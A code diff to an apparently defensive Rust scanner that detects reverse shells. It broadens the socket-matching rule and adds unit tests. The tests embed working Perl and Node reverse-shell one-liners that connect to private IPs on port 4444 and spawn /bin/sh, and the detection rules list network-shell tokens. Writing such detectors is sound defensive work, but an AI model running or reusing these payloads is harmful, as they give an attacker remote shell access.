@@ -640,7 +640,10 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         "createConnection",
         "fsockopen",
         "Socket.tcp",
-    ]) && (has(&["connect", "dup2", "fsockopen", "TCPSocket.new", "createConnection", "net.connect", "create_connection", "Socket.tcp"]));
+    ]) || (toks.iter().any(|t| matches!(t, Tok::Str(s, _) if s == "net" || s == "socket"))
+        && has(&["connect", "createConnection"]));
+    let socket = socket
+        && has(&["connect", "dup2", "fsockopen", "TCPSocket.new", "createConnection", "net.connect", "create_connection", "Socket.tcp"]);
     let shellish = has(&["dup2", "spawn", "pty.spawn", "fileno", "pipe"])
         || toks.iter().any(|t| matches!(t, Tok::Str(s, _) | Tok::Cmd(s, _) if s.contains("/bin/sh") || s.contains("/bin/bash") || s.contains("sh -i") || s == "sh" || s == "bash" || s.contains("cmd.exe")));
     if socket && shellish {
@@ -942,6 +945,11 @@ mod tests {
             .any(|f| matches!(f, Found::ReverseShell(_))));
         let p = scan(Lang::Perl, r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.2")));open(STDIN,">&S");exec("/bin/sh -i");"#);
         assert!(p.iter().any(|f| matches!(f, Found::ReverseShell(_))));
+        let n = scan(Lang::Node, "const n=require('net'),c=require('child_process');const s=n.connect(4444,'10.1.1.2');const sh=c.spawn('/bin/sh');s.pipe(sh.stdin)");
+        assert!(n.iter().any(|f| matches!(f, Found::ReverseShell(_))));
+        assert!(!scan(Lang::Node, "const n=require('net'); n.createServer().listen(8080)")
+            .iter()
+            .any(|f| matches!(f, Found::ReverseShell(_))));
     }
 
     #[test]
